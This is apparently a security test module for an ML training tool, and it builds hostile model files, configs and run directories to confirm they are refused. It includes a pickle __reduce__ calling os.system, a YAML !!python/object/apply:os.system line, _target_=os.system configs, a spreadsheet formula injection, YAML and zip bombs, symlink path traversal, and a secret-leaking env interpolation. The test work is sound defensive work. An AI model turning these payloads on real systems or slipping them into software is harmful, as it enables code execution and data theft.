"""Hostile model files, checkpoints, run directories and sweep directories, as somebody may have sent them."""

from __future__ import annotations

import hashlib
import io
import json
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
import yaml
from PIL import Image
from safetensors import safe_open
from safetensors.torch import load_file, save_file

from resnet_exp.run_dir.contents import recorded_files
from resnet_exp.run_dir.journal import Journal, read

from ..trials import TINY, reference, start
from .witness import Case, World

Make = Callable[[World], tuple[str, ...]]

_REPORT = ("task=report", "report=none", "report.curves=true", "report.html=true", "report.classes=true")
_TARGET = "resnet_exp.models.custom_resnet.CustomResNet"


class _Hostile:
    """What makes the canary when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.canary}",)


def _run(world: World) -> Path:
    """The directory of a finished run, which somebody sent."""
    root = world.work / "outputs" / "foreign"
    shutil.copytree(reference(*TINY), root)
    return root


# Model files


def _model(world: World, **changed: Any) -> Path:
    """A true model file whose facts are changed."""
    path = reference(*TINY) / "model.safetensors"
    with safe_open(path, "pt") as file:
        facts = json.loads(file.metadata()["resnet_exp"])
    made = world.work / "model.safetensors"
    save_file(load_file(path), made, {"resnet_exp": json.dumps({**facts, **changed})})
    return made


def _predicted(world: World) -> tuple[str, ...]:
    Image.fromarray(np.zeros((32, 32, 3), np.uint8)).save(world.work / "image.png")
    return "task=predict", "checkpoint=model.safetensors", "images=image.png"


def changed_facts(**changed: Any) -> Make:
    """A file that says this of its network."""

    def make(world: World) -> tuple[str, ...]:
        _model(world, **changed)
        return _predicted(world)

    return make


def written(content: Callable[[World], bytes]) -> Make:
    """A file of these bytes."""

    def make(world: World) -> tuple[str, ...]:
        (world.work / "model.safetensors").write_bytes(content(world))
        return _predicted(world)

    return make


def _torch_file(world: World) -> bytes:
    buffer = io.BytesIO()
    torch.save({"model": _Hostile(world.canary)}, buffer)
    return buffer.getvalue()


def _sparse(world: World) -> tuple[str, ...]:
    with (world.work / "model.safetensors").open("wb") as file:
        file.write((100).to_bytes(8, "little"))
        file.truncate(1 << 43)
    return _predicted(world)


def _not_finite(world: World) -> tuple[str, ...]:
    path = _model(world)
    with safe_open(path, "pt") as file:
        facts = file.metadata()
    weights = load_file(path)
    next(value for value in weights.values() if value.is_floating_point()).fill_(float("nan"))
    save_file(weights, path, facts)
    return _predicted(world)


def _formulas(world: World) -> tuple[str, ...]:
    """Its predictions are written, and no spreadsheet runs them; `check` is in the words that are told."""
    _model(world, class_names=[f"=cmd|' /C calc'!A{number}" for number in range(10)])
    return _predicted(world)


def _pipe_as_model(world: World) -> tuple[str, ...]:
    os.mkfifo(world.work / "model.safetensors")
    return _predicted(world)


# Run directories


def redrawn(change: Callable[[World, Path], object], *more: str) -> Make:
    """The run directory, changed so, and the command that draws its report again."""

    def make(world: World) -> tuple[str, ...]:
        root = _run(world)
        change(world, root)
        return (*_REPORT, "run_dir=outputs/foreign", *more)

    return make


def recorded(**sections: Any) -> Make:
    """A run whose config says this; `{port}`, `{evil}` and `{home}` are those of the world."""

    def change(world: World, root: Path) -> None:
        places = {
            "port": str(world.port),
            "evil": str(world.evil),
            "home": str(world.home),
            "canary": str(world.canary),
        }
        tree = yaml.safe_load((root / "config.yaml").read_text())
        for key, value in sections.items():
            text = json.dumps(value)
            for name, place in places.items():
                text = text.replace(f"<{name}>", place)
            found = json.loads(text)
            tree[key] = {**tree[key], **found} if isinstance(found, dict) else found
        (root / "config.yaml").write_text(yaml.safe_dump(tree))
        _forge(root)

    return redrawn(change)


def _forge(root: Path) -> None:
    """Lets the run's journal record its files as they are now: whoever changes one can do that, too."""
    with Journal(root / "journal.jsonl") as journal:
        for name, digest in recorded_files(read(root / "journal.jsonl")).items():
            if digest:
                journal.artifact(root / name)


def _linked(name: str, target: str) -> Callable[[World, Path], None]:
    """A link from the run directory to a file or folder of the home."""

    def change(world: World, root: Path) -> None:
        path = root / name
        if path.is_dir():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(exist_ok=True)
        path.symlink_to(world.home / target)

    return change


def _piped(name: str) -> Callable[[World, Path], None]:
    def change(world: World, root: Path) -> None:
        (root / name).unlink(missing_ok=True)
        os.mkfifo(root / name)

    return change


def _replaced(name: str, content: Callable[[World], bytes]) -> Callable[[World, Path], None]:
    def change(world: World, root: Path) -> None:
        (root / name).write_bytes(content(world))
        _forge(root)

    return change


def _bomb(_: World) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 30)]
    return "\n".join(lines).encode()


def _huge(name: str) -> Callable[[World, Path], None]:
    def change(world: World, root: Path) -> None:
        with (root / name).open("r+b") as file:
            file.truncate(1 << 38)

    return change


def _pickled_predictions(world: World) -> bytes:
    buffer = io.BytesIO()
    hostile = np.array([_Hostile(world.canary)], dtype=object)
    np.savez(buffer, labels=hostile, probabilities=hostile, allow_pickle=True)
    return buffer.getvalue()


def _unpacked(world: World) -> bytes:
    """A small file of zeros that unpacks to 4 GB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("labels.npy", "w") as file:
        for _ in range(1 << 8):
            file.write(bytes(1 << 20))
    return buffer.getvalue()


def _journal_path(world: World, root: Path) -> None:
    """An artifact of the journal that lies in the home; the tracker is asked for, and is a file of the project."""
    with Journal(root / "journal.jsonl") as journal:  # past its own check
        journal._append("artifact", path="../../../home/thesis.txt", folder="")


# Runs that go on, and sweeps


def _checkpoint(world: World) -> tuple[str, ...]:
    """An unfinished run of the very command, whose checkpoint has the right checksum and hostile content."""
    alone = reference(*TINY)
    root = world.work / "outputs" / alone.name
    shutil.copytree(alone, root)
    content = _torch_file(world)
    name = f"epoch-00002-step-0000010-{hashlib.sha256(content).hexdigest()[:16]}.pt"
    for path in (root / "checkpoints").glob("*"):
        path.unlink()
    (root / "checkpoints").mkdir(exist_ok=True)
    (root / "checkpoints" / name).write_bytes(content)
    with Journal(root / "journal.jsonl") as journal:
        journal.status("KILLED")
    return TINY


def goes_on(change: Callable[[World, Path], object]) -> Make:
    """The same command, whose run directory somebody has prepared."""

    def make(world: World) -> tuple[str, ...]:
        root = world.work / "outputs" / reference(*TINY).name
        shutil.copytree(reference(*TINY), root)
        change(world, root)
        return TINY

    return make


def _memo(world: World) -> tuple[str, ...]:
    """A remembered range test that is a link into the home."""
    arguments = (*TINY, "scheduler.max_lr=find", "range_test.repeats=1", "range_test.num_steps=30")
    start(*arguments, folder=world.work).wait()  # so few steps find no LR, which is remembered too
    (path,) = (world.work / "outputs" / "range_tests").glob("*.json")
    path.unlink()
    path.symlink_to(world.home / "thesis.json")
    return (*arguments, "rerun=true")


_SWEEP = ("--multirun", *TINY, "train.label_smoothing=0,0.1")


def swept(change: Callable[[World, Path], object]) -> Make:
    """The same sweep again, whose directory was changed."""

    def make(world: World) -> tuple[str, ...]:
        world.do(*_SWEEP)
        (root,) = (path for path in (world.work / "multirun").iterdir() if path.is_dir())
        change(world, root)
        return _SWEEP

    return make


def _best(text: str) -> Make:
    """The best config of somebody's sweep, with a line changed."""

    def make(world: World) -> tuple[str, ...]:
        world.do(*_SWEEP)
        (root,) = (path for path in (world.work / "multirun").iterdir() if path.is_dir())
        tree = yaml.safe_load((root / "best.yaml").read_text())
        tree |= yaml.safe_load(text.replace("<evil>", str(world.evil)).replace("<port>", str(world.port)))
        (root / "best.yaml").write_text(yaml.safe_dump(tree, sort_keys=False))
        return "--config-dir", str(root), "--config-name", "best"

    return make


def _job_key(world: World, root: Path) -> None:
    """A job whose identity, which names its files, leads into the home."""
    (path, *_) = sorted((root / "jobs").glob("*.json"))
    job = json.loads(path.read_text())
    path.write_text(json.dumps({**job, "identity": "../../../../home/x", "status": "planned"}))


def _plan(world: World, root: Path) -> None:
    (root / "plan.json").write_text(json.dumps(["../../../../home/x-1"]))


_REFUSED = "this is not a model.safetensors of resnet_exp"
_LINK = "nothing is read or written through it"
CASES = (
    Case("an interpolation in the tracker's address",
         recorded(tracker={"_target_": "resnet_exp.tracking.mlflow.MlflowTracker", "experiment": "x",
                           "uri": "http://127.0.0.1:<port>/${oc.env:USERS_SECRET}"}),
         "the config of a run has no references"),
    Case("a pickle as a model file", written(lambda world: pickle.dumps(_Hostile(world.canary))), _REFUSED),
    Case("a report that is a link", redrawn(_linked("report", "")), _LINK),
    Case("a checkpoint with code", _checkpoint, "it is not used", 0),
    Case("a job that leads elsewhere", swept(_job_key), "2 of 2 jobs finished", 0),
    Case("a tracker of somebody else's", recorded(tracker={"_target_": "resnet_exp.tracking.mlflow.MlflowTracker",
         "uri": "http://127.0.0.1:<port>", "experiment": "x"}), "its tracker was not contacted", 0),
    Case("torch's own file as a model file", written(_torch_file), _REFUSED),
    Case("plug-ins of the run", recorded(plugins="<evil>", model={"_target_": "evil_code.Net"}),
         "its code is run only where the command line names it"),
    Case("a sparse model file", _sparse, "bytes are more than this machine's memory"),
    Case("a sweep with a link", swept(_linked("jobs/x.json", "thesis.txt")), _LINK),
    Case("a target in the run's config", recorded(model={"_target_": "os.system", "command": "touch <canary>"}),
         "model._target_=os.system: a name in"),
    Case("a header of four exabytes", written(lambda _: (1 << 62).to_bytes(8, "little") + bytes(100)),
         "its header would have"),
    Case("a journal that is a link", redrawn(_linked("journal.jsonl", "thesis.txt")), _LINK),
    Case("a network of a trillion weights", changed_facts(model={"_target_": _TARGET, "width": 10**12}),
         "its network cannot be made"),
    Case("best.yaml with plug-ins", _best("plugins: <evil>"), "its code is run only where the command line names it"),
    Case("a picture that is a link", redrawn(_linked("report/curves.png", "thesis.txt")), _LINK),
    Case("weights that are no numbers", _not_finite, "has values that are NaN or infinite"),
    Case("images elsewhere", recorded(data={"_target_": "resnet_exp.data.image_folder.ImageFolder", "root": "<home>"}),
         "outside the working directory"),
    Case("a target in a model file", changed_facts(model={"_target_": "os.system", "command": "x"}),
         "model._target_=os.system: a name in"),
    Case("best.yaml with a variable",
         _best("tracker: {_target_: resnet_exp.tracking.mlflow.MlflowTracker, experiment: x, "
               "uri: 'http://127.0.0.1:<port>/${oc.env:USERS_SECRET}'}"), "a yaml reads more than other keys"),
    Case("a bomb as a config", redrawn(_replaced("config.yaml", _bomb)), "values, which no config has"),
    Case("Python objects in a config", redrawn(_replaced("config.yaml",
         lambda world: f"a: !!python/object/apply:os.system ['touch {world.canary}']".encode())), "cannot be read"),
    Case("a pipe as a model file", _pipe_as_model, "there is no such file"),
    Case("a pipe as a config", redrawn(_piped("config.yaml")), "is neither a file nor a folder"),
    Case("a plan that leads elsewhere", swept(_plan), "2 of 2 jobs finished", 0),
    Case("a journal of 256 GB", redrawn(_huge("journal.jsonl")), "bytes, which no run writes"),
    Case("images of a million pixels", changed_facts(input_shape=[1, 10**6, 10**6]), _REFUSED),
    Case("predictions with code", redrawn(_replaced("predictions.npz", _pickled_predictions)), "", 0),
    Case("a partial file that is a link", goes_on(_linked("result.json.partial", "thesis.txt")), _LINK),
    Case("class names that are formulas", _formulas, "predictions.csv", 0),
    Case("predictions that unpack to gigabytes", redrawn(_replaced("predictions.npz", _unpacked)),
         "larger than the predictions of this run can be", 0),
    Case("a remembered range test that is a link", _memo, _LINK),
    Case("a folder for images that is emptied", recorded(data={"_target_": "resnet_exp.data.image_folder.ImageFolder",
         "root": "data", "cache": "<home>"}), "data: there is no such folder"),
    Case("a lock that is a pipe", redrawn(_piped(".lock")), "is neither a file nor a folder"),
)  # fmt: skip
